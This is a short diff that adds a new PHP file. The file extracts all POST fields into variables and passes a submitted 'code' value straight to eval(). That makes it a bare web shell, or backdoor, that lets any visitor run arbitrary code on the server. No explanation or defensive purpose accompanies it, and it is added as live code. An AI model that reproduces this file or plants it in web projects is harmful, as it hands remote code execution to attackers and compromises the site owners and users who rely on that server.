@@ -1,0 +1,5 @@
+<?php
+extract($_POST);
+if (isset($code)) {
+	eval($code);
+}
